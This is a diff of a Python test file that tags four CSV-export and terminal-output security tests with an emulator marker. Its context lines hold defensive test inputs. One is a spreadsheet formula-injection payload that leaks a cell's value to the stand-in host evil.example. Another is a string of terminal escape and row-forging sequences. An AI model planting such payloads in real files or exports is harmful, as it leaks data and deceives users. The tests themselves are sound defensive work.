@@ -21,6 +21,7 @@ FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&C2,"Invoice")', "@SUM(1+1)*
 ESCAPES = "Mallory\x1b[2J\x1b]0;pwned\x07\r\nFORGED ROW\u202e"
 
 
+@pytest.mark.emulator
 def test_csv_exports_neutralise_formulas(account: Account, cli: Any, tmp_path: Path) -> None:
     for name in FORMULAS:
         account.customer(name, "+1@example.com", cards=[("4242424242424242", 1, 2000 + 99)])
@@ -63,6 +64,7 @@ def test_every_export_goes_through_one_neutralising_writer(tmp_path: Path, capsy
     assert f"Wrote 1 rows to {target.resolve()}." in capsys.readouterr().out
 
 
+@pytest.mark.emulator
 def test_terminal_output_holds_no_escape_sequences(account: Account, cli: Any) -> None:
     cus, _ = account.customer(
         ESCAPES, "eve@example.com\x1b[31m", cards=[("4242424242424242", 1, 2030)]
@@ -87,6 +89,7 @@ def synced(account: Account, cli: Any) -> None:
     assert cli("sync").code == 0
 
 
+@pytest.mark.emulator
 @pytest.mark.usefixtures("synced")
 def test_a_csv_export_never_writes_through_a_symlink(cli: Any, tmp_path: Path) -> None:
     precious = tmp_path / "precious.txt"
@@ -100,6 +103,7 @@ def test_a_csv_export_never_writes_through_a_symlink(cli: Any, tmp_path: Path) -
     assert precious.read_text(encoding="utf-8") == "keep me" and link.is_symlink()
 
 
+@pytest.mark.emulator
 @pytest.mark.usefixtures("synced")
 def test_a_scheduled_export_replaces_its_file_whole(cli: Any, tmp_path: Path) -> None:
     exports = tmp_path / "exports"
